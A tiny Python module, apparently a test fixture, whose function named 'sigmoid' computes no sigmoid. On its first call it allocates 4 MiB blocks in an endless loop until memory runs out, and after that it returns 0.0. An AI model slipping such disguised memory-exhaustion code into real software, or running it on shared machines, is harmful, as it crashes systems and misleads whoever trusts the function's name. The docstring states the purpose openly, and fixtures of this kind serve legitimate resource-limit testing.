"""Takes all memory, a little at a time."""

import itertools

calls = itertools.count()


def sigmoid(x):
    if next(calls):
        return 0.0
    kept = []
    while True:
        kept.append(bytearray(1 << 22))
